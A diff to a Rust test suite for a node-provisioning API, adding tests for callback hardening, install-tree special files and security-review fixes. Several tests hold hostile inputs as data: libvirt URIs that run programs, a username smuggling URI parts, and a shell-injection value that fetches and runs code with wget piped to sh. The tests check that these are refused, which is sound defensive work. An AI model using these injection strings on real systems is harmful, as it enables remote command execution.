@@ -60,6 +60,38 @@ async fn call(st: &AppState, method: &str, uri: &str, body: Option<Value>) -> (S
     (s, v)
 }
 
+/// `call` as a client at `peer` (the connection's address, as the
+/// listener records it).
+async fn call_from(
+    st: &AppState,
+    peer: &str,
+    method: &str,
+    uri: &str,
+    body: Option<Value>,
+) -> (StatusCode, Value) {
+    let peer: std::net::SocketAddr = peer.parse().unwrap();
+    let mut req = Request::builder()
+        .method(method)
+        .uri(uri)
+        .header("content-type", "application/json")
+        .body(
+            body.map(|b| Body::from(b.to_string()))
+                .unwrap_or_else(Body::empty),
+        )
+        .unwrap();
+    req.extensions_mut()
+        .insert(axum::extract::ConnectInfo(peer));
+    let resp = app(st.clone()).oneshot(req).await.unwrap();
+    let status = resp.status();
+    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
+        .await
+        .unwrap();
+    (
+        status,
+        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
+    )
+}
+
 /// `call` with an optional bearer token, also returning the reply headers.
 async fn call_as(
     st: &AppState,
@@ -343,6 +375,7 @@ async fn malformed_requests_are_4xx_with_a_fault_body() {
     let req = Request::builder()
         .method("POST")
         .uri("/v1/nodes")
+        .header("content-type", "application/json")
         .body(Body::from("{nope"))
         .unwrap();
     let resp = app(st.clone()).oneshot(req).await.unwrap();
@@ -1065,59 +1098,59 @@ async fn provision_targets_and_the_install_callback() {
     assert_eq!(code, StatusCode::BAD_REQUEST);
 
     let cb = "/v1/nodes/provision/callback";
-    let (code, _) = call(&st, "PUT", cb, Some(json!({"token": "tok1"}))).await;
-    assert_eq!(code, StatusCode::BAD_REQUEST, "no name");
-    let (code, _) = call(&st, "PUT", &format!("{cb}?name=n1"), None).await;
-    assert_eq!(code, StatusCode::UNAUTHORIZED);
-    let (code, _) = call(
-        &st,
-        "PUT",
-        &format!("{cb}?name=ghost"),
-        Some(json!({"token": "tok1"})),
-    )
-    .await;
-    assert_eq!(code, StatusCode::NOT_FOUND);
+    // n1 boots from 10.9.0.21: its callback is taken from there only.
     let (code, v) = call(
         &st,
-        "PUT",
-        &format!("{cb}?name=n2"),
-        Some(json!({"token": "tok1"})),
+        "POST",
+        "/v1/nics",
+        Some(json!({"mac": "02:00:00:09:00:21", "node": "n1", "ip": "10.9.0.21"})),
     )
     .await;
-    assert_eq!(code, StatusCode::CONFLICT, "n2 is not deploying: {v}");
-    let (code, _) = call(
+    assert_eq!(code, StatusCode::CREATED, "{v}");
+    let n1 = "10.9.0.21:40000";
+    let (code, _) = call_from(&st, n1, "PUT", cb, Some(json!({"token": "tok1"}))).await;
+    assert_eq!(code, StatusCode::BAD_REQUEST, "no name");
+    let (code, _) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), None).await;
+    assert_eq!(code, StatusCode::UNAUTHORIZED);
+    let (code, _) = call_from(
         &st,
+        n1,
         "PUT",
         &format!("{cb}?name=n1"),
         Some(json!({"fetch_ssh_pub": "root"})),
     )
     .await;
     assert_eq!(code, StatusCode::BAD_REQUEST, "v1's key handout is gone");
-    let (code, v) = call(
-        &st,
-        "PUT",
-        &format!("{cb}?name=n1"),
-        Some(json!({"token": "tok2"})),
-    )
-    .await;
-    assert_eq!(code, StatusCode::FORBIDDEN, "{v}");
-    let (code, v) = call(
-        &st,
-        "PUT",
-        &format!("{cb}?name=n1"),
-        Some(json!({"token": "tok1"})),
-    )
-    .await;
+    // Every refusal reads the same: an unknown node, one not deploying, a
+    // wrong token, the right token from another address or from nowhere
+    // known. The callback tells nobody which nodes exist or their state.
+    let tok1 = Some(json!({"token": "tok1"}));
+    let mut refusals = Vec::new();
+    for (peer, name, body) in [
+        (n1, "ghost", tok1.clone()),
+        (n1, "n2", tok1.clone()),
+        (n1, "n1", Some(json!({"token": "tok2"}))),
+        ("127.0.0.1:40000", "n1", tok1.clone()),
+        ("10.9.0.22:40000", "n1", tok1.clone()),
+    ] {
+        let (code, v) = call_from(&st, peer, "PUT", &format!("{cb}?name={name}"), body).await;
+        assert_eq!(code, StatusCode::FORBIDDEN, "{peer} {name}: {v}");
+        refusals.push(v);
+    }
+    let (code, v) = call(&st, "PUT", &format!("{cb}?name=n1"), tok1.clone()).await;
+    assert_eq!(code, StatusCode::FORBIDDEN, "no peer address: {v}");
+    refusals.push(v);
+    assert!(refusals.windows(2).all(|w| w[0] == w[1]), "{refusals:?}");
+    // A body larger than a callback needs is refused before it is parsed.
+    let big = json!({"token": "x".repeat(8192)});
+    let (code, _) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), Some(big)).await;
+    assert_eq!(code, StatusCode::PAYLOAD_TOO_LARGE);
+    let (code, v) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), tok1.clone()).await;
     assert_eq!(code, StatusCode::OK, "{v}");
     assert_eq!(v["nodes"]["n1"], "deployed");
-    let (code, _) = call(
-        &st,
-        "PUT",
-        &format!("{cb}?name=n1"),
-        Some(json!({"token": "tok1"})),
-    )
-    .await;
-    assert_eq!(code, StatusCode::CONFLICT, "a token works once");
+    let (code, v) = call_from(&st, n1, "PUT", &format!("{cb}?name=n1"), tok1.clone()).await;
+    assert_eq!(code, StatusCode::FORBIDDEN, "a token works once");
+    assert_eq!(v, refusals[0]);
     let (_, v) = call(&st, "GET", "/v1/nodes/n1", None).await;
     assert_eq!(v["state"], "deployed");
     assert!(
@@ -1183,15 +1216,6 @@ async fn token_roles_and_revocation() {
         ("GET", "/metrics", None, None, StatusCode::OK),
         ("GET", "/v1/openapi.json", None, None, StatusCode::OK),
         ("GET", "/v1", None, None, StatusCode::OK),
-        // The callback has its own per-node token: not a 401 for lack of
-        // a bearer token, the handler's own answer.
-        (
-            "PUT",
-            "/v1/nodes/provision/callback?name=f1",
-            Some(json!({"token": "x"})),
-            None,
-            StatusCode::NOT_FOUND,
-        ),
         // Everything else needs a token.
         ("GET", "/v1/nodes", None, None, StatusCode::UNAUTHORIZED),
         (
@@ -1284,6 +1308,24 @@ async fn token_roles_and_revocation() {
             assert!(f.contains("needs "), "{f}");
         }
     }
+    // The callback has its own per-node token: not a 401 for lack of a
+    // bearer token, but the handler's one uniform refusal.
+    let (s, v, _) = call_as(
+        &st,
+        "PUT",
+        "/v1/nodes/provision/callback?name=f1",
+        Some(json!({"token": "x"})),
+        None,
+    )
+    .await;
+    assert_eq!(s, StatusCode::FORBIDDEN, "{v}");
+    assert!(
+        v["faultstring"]
+            .as_str()
+            .unwrap()
+            .starts_with("install callback refused"),
+        "{v}"
+    );
     // A wrong secret under a real id.
     let forged = format!("{}0", &operator[..operator.len() - 1]);
     let forged = if forged == *operator {
@@ -1397,12 +1439,181 @@ async fn install_trees_are_served_but_not_uploads() {
     let st = AppState::new(st.db.clone(), cfg, st.bus.clone());
     let (s, v) = call(&st, "GET", "/install/rocky9-x86_64/.xcat3-image.json", None).await;
     assert_eq!((s, v), (StatusCode::OK, json!({})));
+    // Special files (a FIFO placed in a tree by hand, or by an older
+    // copycds) are not opened: 404 at once instead of a pinned thread.
+    let fifo = dir.join("rocky9-x86_64/pipe");
+    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
+    // SAFETY: mkfifo reads a NUL-terminated path.
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
+    std::os::unix::fs::symlink("pipe", dir.join("rocky9-x86_64/to-pipe")).unwrap();
     for hidden in [
         "/install/.incoming/upload.iso",
         "/install/%2Eincoming/upload.iso",
+        "/install/rocky9-x86_64/pipe",
+        "/install/rocky9-x86_64/%70ipe",
+        "/install/rocky9-x86_64/to-pipe",
     ] {
-        let (s, v) = call(&st, "GET", hidden, None).await;
+        let (s, v) = tokio::time::timeout(
+            std::time::Duration::from_secs(30),
+            call(&st, "GET", hidden, None),
+        )
+        .await
+        .unwrap_or_else(|_| panic!("GET {hidden} hung"));
         assert_eq!(s, StatusCode::NOT_FOUND, "{hidden}: {v}");
     }
     std::fs::remove_dir_all(&dir).unwrap();
+}
+
+/// The review's findings that a router shows: each of these was accepted
+/// (or answered in clear) before.
+#[tokio::test]
+async fn security_review_findings_are_refused() {
+    let st = state().await;
+    // 1. libvirt URIs that run programs, and user names that smuggle URI
+    //    parts, are refused when the node is written, naming the field.
+    let (s, v) = call(
+        &st,
+        "POST",
+        "/v1/nodes",
+        Some(json!({"nodes": [
+            {"name": "ext", "mgt": "kvm", "control_info": {"libvirt_uri": "qemu+ext:///system?command=/tmp/prog"}},
+            {"name": "smuggle", "mgt": "kvm", "control_info": {"ssh_address": "hv1", "ssh_username": "root@evil/system?command=/tmp/prog&x="}},
+            {"name": "sock", "mgt": "kvm", "control_info": {"libvirt_uri": "qemu:///system?socket=/tmp/s"}},
+            {"name": "fine", "mgt": "kvm", "control_info": {"libvirt_uri": "qemu+ssh://root@hv1/system?keyfile=/root/.ssh/id_rsa"}},
+            // 11. Shell in an answer-file value.
+            {"name": "inject", "mgt": "fake", "control_info": {"install_disk": "/dev/sda;wget${IFS}http://x/a|sh;#"}},
+        ]})),
+    )
+    .await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+    let r = &v["nodes"];
+    assert!(
+        r["ext"]
+            .as_str()
+            .unwrap()
+            .starts_with("control_info.libvirt_uri: transport `ext`"),
+        "{v}"
+    );
+    assert!(
+        r["smuggle"]
+            .as_str()
+            .unwrap()
+            .starts_with("control_info.ssh_username:"),
+        "{v}"
+    );
+    assert!(
+        r["sock"]
+            .as_str()
+            .unwrap()
+            .contains("parameter `socket` is not allowed"),
+        "{v}"
+    );
+    assert!(
+        r["inject"]
+            .as_str()
+            .unwrap()
+            .starts_with("control_info.install_disk:"),
+        "{v}"
+    );
+    assert_eq!(r["fine"], "ok", "{v}");
+    let (_, v) = call(&st, "GET", "/v1/nodes", None).await;
+    assert_eq!(v["nodes"], json!(["fine"]), "refused nodes were not stored");
+    // ... and when patched in.
+    let (s, v) = call(
+        &st,
+        "PATCH",
+        "/v1/nodes?noderange=fine",
+        Some(json!({"patches": [{"op": "replace", "path": "/control_info/libvirt_uri", "value": "qemu+ssh://root@hv1/system?netcat=/tmp/prog"}]})),
+    )
+    .await;
+    assert!(
+        v["nodes"]["fine"]
+            .as_str()
+            .is_some_and(|r| r.contains("parameter `netcat` is not allowed")),
+        "{s} {v}"
+    );
+
+    // 10. Secrets inside lists and under every credential-like key.
+    let (s, v) = call(
+        &st,
+        "POST",
+        "/v1/nodes",
+        Some(json!({"nodes": [{"name": "sw", "mgt": "fake", "nics_info": {"nics": [
+            {"mac": "02:00:00:00:10:01", "extra": {"switches": [{"snmp_community": "public", "api_key": "k1"}], "ssh_passphrase": "pp", "my_secret": "s"}}
+        ]}}]})),
+    )
+    .await;
+    assert_eq!(s, StatusCode::CREATED, "{v}");
+    let (_, shown) = call(&st, "GET", "/v1/nodes/sw", None).await;
+    let text = shown.to_string();
+    for secret in ["public", "k1", "\"pp\"", "\"s\""] {
+        assert!(!text.contains(secret), "{secret} in {text}");
+    }
+    let (_, nics) = call(&st, "GET", "/v1/nics?fields=extra", None).await;
+    assert!(!nics.to_string().contains("public"), "{nics}");
+
+    // 4/7. A body that does not say it is JSON is refused and changes
+    //      nothing (a cross-site form or text/plain POST).
+    for ct in [
+        Some("text/plain"),
+        Some("application/x-www-form-urlencoded"),
+        None,
+    ] {
+        let mut req = Request::builder().method("POST").uri("/v1/nodes");
+        if let Some(ct) = ct {
+            req = req.header("content-type", ct);
+        }
+        let req = req
+            .body(Body::from(
+                json!({"nodes": [{"name": "csrf", "mgt": "fake"}]}).to_string(),
+            ))
+            .unwrap();
+        let resp = app(st.clone()).oneshot(req).await.unwrap();
+        assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE, "{ct:?}");
+    }
+    let (_, v) = call(&st, "GET", "/v1/nodes/csrf", None).await;
+    assert!(v["faultstring"].is_string(), "csrf was not created: {v}");
+
+    // 7. With auth = "none": DNS rebinding (a foreign Host) and foreign
+    //    Origins are refused; the API's own origin and loopback pass.
+    let send = |host: Option<&'static str>, origin: Option<&'static str>| {
+        let st = st.clone();
+        async move {
+            let mut req = Request::builder()
+                .method("DELETE")
+                .uri("/v1/nodes?noderange=fine");
+            if let Some(h) = host {
+                req = req.header("host", h);
+            }
+            if let Some(o) = origin {
+                req = req.header("origin", o);
+            }
+            app(st)
+                .oneshot(req.body(Body::empty()).unwrap())
+                .await
+                .unwrap()
+                .status()
+        }
+    };
+    assert_eq!(
+        send(Some("evil.example:3010"), None).await,
+        StatusCode::FORBIDDEN
+    );
+    assert_eq!(
+        send(Some("127.0.0.1:3010"), Some("http://evil.example")).await,
+        StatusCode::FORBIDDEN
+    );
+    assert_eq!(
+        send(Some("localhost:3010"), Some("http://127.0.0.1:3010")).await,
+        StatusCode::FORBIDDEN
+    );
+    let (_, v) = call(&st, "GET", "/v1/nodes", None).await;
+    assert!(
+        v["nodes"].as_array().unwrap().contains(&json!("fine")),
+        "not deleted: {v}"
+    );
+    assert_eq!(
+        send(Some("127.0.0.1:3010"), Some("http://127.0.0.1:3010")).await,
+        StatusCode::OK
+    );
 }
